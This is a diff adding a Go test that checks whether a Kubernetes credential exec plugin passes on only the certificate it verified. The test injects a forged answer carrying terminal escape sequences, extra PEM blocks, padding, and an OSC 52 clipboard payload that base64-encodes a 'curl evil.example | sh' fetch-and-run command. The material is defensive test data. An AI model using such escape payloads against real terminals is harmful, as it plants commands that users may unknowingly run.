@@ -1,0 +1,133 @@
+package credclient_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"io"
+	"math/big"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/ptr"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	ichorv1alpha1 "github.com/ichor-dev/ichor-policy/api/v1alpha1"
+	"github.com/ichor-dev/ichor-policy/internal/credclient"
+	"github.com/ichor-dev/ichor-policy/internal/kube"
+	"github.com/ichor-dev/ichor-policy/test/harness"
+)
+
+// The exec plugin prints what kubectl reads and caches it: the certificate
+// it checked against its key, and nothing around it. Whoever may write a
+// TalosCredentialRequest's status (or an issuer gone wrong) can answer with
+// a certificate for the requester's key wrapped in terminal escapes, text
+// and more PEM blocks, up to the object's size; none of it may reach
+// kubectl's input, the cache or the person's terminal. Here the test
+// answers each request itself, as such a writer, before any issuer could.
+func TestTheExecPluginPassesOnOnlyTheCertificateItChecked(t *testing.T) {
+	env := harness.StartForTest(t, harness.Options{})
+	const namespace = "team-a"
+	require.NoError(t, env.Client.Create(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: namespace}}))
+	kubeconfig := filepath.Join(t.TempDir(), "kubeconfig")
+	require.NoError(t, os.WriteFile(kubeconfig, env.AdminKubeconfig, 0o600))
+
+	_, caKey, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "forger"},
+		NotBefore: time.Now().Add(-time.Minute), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
+		KeyUsage: x509.KeyUsageCertSign}
+	other, _, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	issue := func(pub any) []byte {
+		der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{SerialNumber: big.NewInt(2),
+			Subject:   pkix.Name{CommonName: "ichor-admin:ada", Organization: []string{"ichor:admins"}},
+			NotBefore: time.Now().Add(-time.Minute), NotAfter: time.Now().Add(time.Hour),
+			ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}, ca, pub, caKey)
+		require.NoError(t, err)
+		return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	}
+
+	ctx, cancel := context.WithCancel(t.Context())
+	defer cancel()
+	answered := make(chan []byte, 1)
+	go func() {
+		for ctx.Err() == nil {
+			var list ichorv1alpha1.TalosCredentialRequestList
+			if err := env.Client.List(ctx, &list, client.InNamespace(namespace)); err == nil {
+				for i := range list.Items {
+					tcr := &list.Items[i]
+					if meta.FindStatusCondition(tcr.Status.Conditions, ichorv1alpha1.ConditionReady) != nil {
+						continue
+					}
+					block, _ := pem.Decode([]byte(tcr.Spec.PublicKey))
+					pub, err := x509.ParsePKIXPublicKey(block.Bytes)
+					if err != nil {
+						continue
+					}
+					leaf := issue(pub)
+					tcr.Status.Certificate = "\x1b]0;pwned\x07\x1b[2J text before\n" + string(leaf) +
+						"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 text after\n" + string(issue(other)) +
+						strings.Repeat("padding ", 64<<10)
+					tcr.Status.ExpiresAt = ptr.To(metav1.NewTime(time.Now().Add(time.Hour)))
+					meta.SetStatusCondition(&tcr.Status.Conditions, metav1.Condition{Type: ichorv1alpha1.ConditionReady,
+						Status: metav1.ConditionTrue, Reason: ichorv1alpha1.ReasonIssued, Message: "\x1b]0;pwned\x07 issued"})
+					if env.Client.Status().Update(ctx, tcr) == nil {
+						select {
+						case answered <- leaf:
+						default:
+						}
+					}
+				}
+			}
+			select {
+			case <-ctx.Done():
+			case <-time.After(20 * time.Millisecond):
+			}
+		}
+	}()
+
+	flags := kube.NewConfigFlags()
+	*flags.KubeConfig = kubeconfig
+	*flags.Namespace = namespace
+	var warn bytes.Buffer
+	cacheDir := filepath.Join(t.TempDir(), "cache")
+	cred, err := credclient.ExecCredential(t.Context(), credclient.Request{Kube: flags, Cluster: "prod",
+		Timeout: 30 * time.Second, Progress: io.Discard}, cacheDir, &warn)
+	require.NoError(t, err, "warnings: %s", warn.String())
+	var leaf []byte
+	select {
+	case leaf = <-answered:
+	default:
+		t.Fatal("the plugin returned without the forged answer")
+	}
+	require.NotNil(t, cred.Status)
+	// Compared without printing them: a failure would print the padding.
+	got := cred.Status.ClientCertificateData
+	assert.True(t, got == string(leaf), "the plugin passed on %d bytes, not the %d of the certificate it checked", len(got), len(leaf))
+	assert.False(t, strings.Contains(got+cred.Status.ClientKeyData+warn.String(), "\x1b"), "a terminal escape passed on")
+	assert.Equal(t, 1, strings.Count(got, "BEGIN"), "PEM blocks passed on")
+
+	// What was cached is what was printed: the next run answers from the
+	// cache, without a request.
+	cancel()
+	again, err := credclient.ExecCredential(t.Context(), credclient.Request{Kube: flags, Cluster: "prod",
+		Timeout: 5 * time.Second, Progress: io.Discard}, cacheDir, &warn)
+	require.NoError(t, err, "warnings: %s", warn.String())
+	assert.True(t, again.Status.ClientCertificateData == got, "the cache gave back %d bytes, not the %d printed", len(again.Status.ClientCertificateData), len(got))
+	var list ichorv1alpha1.TalosCredentialRequestList
+	require.NoError(t, env.Client.List(t.Context(), &list, client.InNamespace(namespace)))
+	assert.Len(t, list.Items, 1, "the second run asked again instead of reading the cache")
+}
